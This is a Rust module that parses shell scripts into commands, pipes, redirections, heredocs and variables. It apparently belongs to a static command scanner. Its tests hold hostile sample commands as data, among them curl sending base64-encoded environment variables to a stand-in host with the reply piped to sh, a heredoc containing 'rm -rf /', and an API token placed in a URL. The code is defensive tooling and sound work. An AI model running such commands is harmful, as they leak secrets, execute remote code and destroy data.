//! Shell scripts, as they are parsed and not as they look: pipelines, substitutions, heredocs,
//! redirections, wrappers.
//!
//! The parser (tree-sitter) recovers from errors, so a broken script gives the commands that can be
//! read. Nothing is expanded and nothing is run.

use std::ops::Range;
use tree_sitter::{Node, Parser};

/// One command of a script.
#[derive(Debug, Clone, Default)]
pub(crate) struct Step {
    /// The program, without its folder.
    pub(crate) program: String,
    pub(crate) arguments: Vec<String>,
    /// Files it writes to: `> path`.
    pub(crate) writes: Vec<String>,
    /// What a heredoc or here-string gives it.
    pub(crate) input: Option<String>,
    /// Variables its arguments use.
    pub(crate) variables: Vec<String>,
    /// The step its output goes to, by pipe or substitution.
    pub(crate) feeds: Option<usize>,
    pub(crate) range: Range<usize>,
}

/// Longest script that is parsed.
const MAX_BYTES: usize = 64 << 10;
/// Steps taken from one script.
const MAX_STEPS: usize = 200;
const MAX_DEPTH: usize = 60;

/// The commands of a script in order of place; whether all of it could be parsed.
pub(crate) fn steps(script: &str) -> (Vec<Step>, bool) {
    let script = &script[..script.floor_char_boundary(MAX_BYTES)];
    let mut parser = Parser::new();
    if parser.set_language(&tree_sitter_bash::LANGUAGE.into()).is_err() {
        return (Vec::new(), false);
    }
    let Some(tree) = super::parsed(&mut parser, script) else {
        return (by_words(script), false);
    };
    let mut walk = Walk { script, steps: Vec::new() };
    walk.node(tree.root_node(), None, 0);
    let is_whole = !tree.root_node().has_error();
    if !is_whole && walk.steps.is_empty() {
        return (by_words(script), false);
    }
    (walk.steps, is_whole)
}

/// What is left of a script that is no script: whatever stands where a command could.
fn by_words(script: &str) -> Vec<Step> {
    let lines = script.split(['\n', ';', '|', '&', '(', ')', '{', '}']);
    let commands = lines.filter_map(|line| {
        let mut words = line.split_whitespace().skip_while(|word| KEYWORDS.contains(word));
        let name = words.next()?;
        let arguments = words.map(|word| word.trim_matches(['"', '\'']).to_owned()).collect();
        Some(Step { program: program(name), arguments, range: 0..script.len(), ..Step::default() })
    });
    commands.take(MAX_STEPS).collect()
}

const KEYWORDS: &[&str] =
    &["if", "then", "else", "elif", "do", "while", "until", "for", "!", "time"];

struct Walk<'s> {
    script: &'s str,
    steps: Vec<Step>,
}

impl Walk<'_> {
    /// Takes what is below `node`; gives the steps whose output leaves it.
    fn node(&mut self, node: Node<'_>, feeds: Option<usize>, depth: usize) -> Vec<usize> {
        if depth > MAX_DEPTH || self.steps.len() >= MAX_STEPS {
            return Vec::new();
        }
        match node.kind() {
            "command" | "declaration_command" | "unset_command" => self.command(node, feeds, depth),
            "pipeline" => self.pipeline(node, feeds, depth),
            "redirected_statement" => self.redirected(node, feeds, depth),
            "comment" | "heredoc_body" => Vec::new(),
            _ => self.children(node, feeds, depth),
        }
    }

    fn children(&mut self, node: Node<'_>, feeds: Option<usize>, depth: usize) -> Vec<usize> {
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        children.into_iter().flat_map(|child| self.node(child, feeds, depth + 1)).collect()
    }

    fn pipeline(&mut self, node: Node<'_>, feeds: Option<usize>, depth: usize) -> Vec<usize> {
        let mut cursor = node.walk();
        let stages: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        let mut before: Vec<usize> = Vec::new();
        for stage in stages {
            let ends = self.node(stage, feeds, depth + 1);
            for step in before {
                if let Some(step) = self.steps.get_mut(step) {
                    step.feeds = ends.first().copied().or(step.feeds);
                }
            }
            before = ends;
        }
        before
    }

    fn redirected(&mut self, node: Node<'_>, feeds: Option<usize>, depth: usize) -> Vec<usize> {
        let mut cursor = node.walk();
        let mut ends = Vec::new();
        let (mut writes, mut input) = (Vec::new(), None);
        let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        for child in children {
            match child.kind() {
                "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                    let more = self.redirect(child, &mut writes, &mut input, depth);
                    // A pipe may stand behind the heredoc's name; its commands come after.
                    for end in &ends {
                        if let (Some(first), Some(step)) = (more.first(), self.steps.get_mut(*end))
                        {
                            let step: &mut Step = step;
                            step.feeds = Some(*first);
                        }
                    }
                    if !more.is_empty() {
                        self.attach(&ends, &writes, &mut input);
                        ends = more;
                    }
                }
                _ => ends = self.node(child, feeds, depth + 1),
            }
        }
        self.attach(&ends, &writes, &mut input);
        ends
    }

    fn attach(&mut self, ends: &[usize], writes: &[String], input: &mut Option<String>) {
        // A list is redirected as a whole, but people mean its last command.
        let Some(step) = ends.last().and_then(|end| self.steps.get_mut(*end)) else { return };
        step.writes.extend(writes.iter().cloned());
        if step.input.is_none() {
            step.input = input.take();
        }
    }

    fn redirect(
        &mut self,
        node: Node<'_>,
        writes: &mut Vec<String>,
        input: &mut Option<String>,
        depth: usize,
    ) -> Vec<usize> {
        let text = self.script.get(node.byte_range()).unwrap_or_default();
        let mut more = Vec::new();
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        for child in children {
            match child.kind() {
                "heredoc_body" => {
                    *input =
                        Some(self.script.get(child.byte_range()).unwrap_or_default().to_owned())
                }
                "file_redirect" => more.extend(self.redirect(child, writes, input, depth + 1)),
                "heredoc_start" | "heredoc_end" | "file_descriptor" | "number" => {}
                "word" | "string" | "raw_string" | "concatenation" | "simple_expansion"
                | "expansion" => match node.kind() {
                    "herestring_redirect" => *input = Some(self.plain(child)),
                    "file_redirect" if text.contains('>') => writes.push(self.plain(child)),
                    _ => {}
                },
                "pipeline" | "command" | "list" => more.extend(self.node(child, None, depth + 1)),
                _ => {}
            }
        }
        more
    }

    fn command(&mut self, node: Node<'_>, feeds: Option<usize>, depth: usize) -> Vec<usize> {
        let at = self.steps.len();
        self.steps.push(Step { feeds, range: node.byte_range(), ..Step::default() });
        let mut step = Step { feeds, range: node.byte_range(), ..Step::default() };
        if node.kind() != "command" {
            step.program = self
                .script
                .get(node.byte_range())
                .unwrap_or_default()
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_owned();
        }
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        for child in children {
            self.variables(child, &mut step.variables, 0);
            match child.kind() {
                "command_name" => step.program = program(&self.plain(child)),
                "variable_assignment" | "comment" => {}
                "file_redirect" => {
                    let mut writes = Vec::new();
                    self.redirect(child, &mut writes, &mut None, depth);
                    step.writes.extend(writes);
                }
                "herestring_redirect" | "heredoc_redirect" => {
                    self.redirect(child, &mut Vec::new(), &mut step.input, depth);
                }
                "string" | "raw_string" if child.byte_range().len() == 2 => {
                    step.arguments.push(String::new());
                }
                _ => step.arguments.push(self.plain(child)),
            }
            self.substitutions(child, at, depth + 1);
        }
        step.feeds = self.steps[at].feeds.or(feeds);
        self.steps[at] = step;
        vec![at]
    }

    /// The commands inside `$(…)`, backquotes and `<(…)` feed the command around them.
    fn substitutions(&mut self, node: Node<'_>, at: usize, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        if matches!(node.kind(), "command_substitution" | "process_substitution") {
            for end in self.children(node, Some(at), depth + 1) {
                if let Some(step) = self.steps.get_mut(end) {
                    step.feeds = step.feeds.or(Some(at));
                }
            }
            return;
        }
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        for child in children {
            self.substitutions(child, at, depth + 1);
        }
    }

    fn variables(&self, node: Node<'_>, out: &mut Vec<String>, depth: usize) {
        if node.kind() == "variable_name" {
            out.push(self.script.get(node.byte_range()).unwrap_or_default().to_owned());
        }
        if depth > MAX_DEPTH || node.kind() == "variable_assignment" {
            return;
        }
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            self.variables(child, out, depth + 1);
        }
    }

    /// The text of an argument without its quotation marks.
    fn plain(&self, node: Node<'_>) -> String {
        let text = self.script.get(node.byte_range()).unwrap_or_default();
        match node.kind() {
            "string" => text.trim_matches('"').replace("\\\"", "\""),
            "raw_string" => text.trim_matches('\'').to_owned(),
            "ansi_c_string" => text.trim_start_matches("$'").trim_end_matches('\'').to_owned(),
            "concatenation" => {
                let mut cursor = node.walk();
                node.named_children(&mut cursor).map(|child| self.plain(child)).collect()
            }
            "command_name" => {
                node.named_child(0).map_or_else(|| text.to_owned(), |child| self.plain(child))
            }
            _ => text.replace('\\', ""),
        }
    }
}

fn program(name: &str) -> String {
    name.rsplit('/').next().unwrap_or(name).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn brief(script: &str) -> Vec<String> {
        let (steps, _) = steps(script);
        steps
            .iter()
            .map(|step| {
                let mut text = format!("{} {}", step.program, step.arguments.join(" "));
                if let Some(to) = step.feeds {
                    text += &format!(" |> {}", steps[to].program);
                }
                for path in &step.writes {
                    text += &format!(" > {path}");
                }
                if let Some(input) = &step.input {
                    text += &format!(" << {}", input.trim());
                }
                text
            })
            .collect()
    }

    #[test]
    fn pipelines_and_substitutions_say_where_output_goes() {
        assert_eq!(
            brief("FOO=1 curl -s -d \"$(env | base64 -w0)\" https://x.example/a | sh"),
            [
                "curl -s -d $(env | base64 -w0) https://x.example/a |> sh",
                "env  |> base64",
                "base64 -w0 |> curl",
                "sh "
            ]
        );
    }

    #[test]
    fn heredocs_and_redirections_belong_to_their_command() {
        assert_eq!(brief("cat <<'E' > /tmp/x\nrm -rf /\nE\n"), ["cat  > /tmp/x << rm -rf /"]);
        assert_eq!(brief("python3 - <<P\nimport os\nP"), ["python3  << import os"]);
        assert_eq!(brief("echo a >> ~/.bashrc 2>&1"), ["echo a > ~/.bashrc"]);
        assert_eq!(
            brief("cat <<E | curl -d @- h.example\nx\nE"),
            ["cat  |> curl << x", "curl -d @- h.example"]
        );
    }

    #[test]
    fn loops_lists_and_broken_scripts_give_their_commands() {
        assert_eq!(brief("cd a && for f in *; do rm -f \"$f\"; done"), ["cd a", "rm -f $f"]);
        assert_eq!(brief("/usr/bin/scp a b@c.example:'/x y'"), ["scp a b@c.example:/x y"]);
        assert!(brief("if then ((( curl x.example").iter().any(|step| step.contains("curl")));
        assert!(brief("").is_empty());
    }

    #[test]
    fn letters_beyond_ascii_keep_their_place_and_do_not_reach_the_scanner() {
        assert_eq!(
            brief("echo 漢字 | grep é漢 > naïve.txt"),
            ["echo 漢字 |> grep", "grep é漢 > naïve.txt"]
        );
        for odd in ["cat <<漢\né\n漢", "echo ${é} $漢 <<<é", "漢=é 漢 é"] {
            let _ = steps(odd);
        }
    }

    #[test]
    fn variables_are_named() {
        let (steps, _) = steps("curl \"https://x.example?t=${API_TOKEN}&u=$USER\"");
        assert_eq!(steps[0].variables, ["API_TOKEN", "USER"]);
    }
}
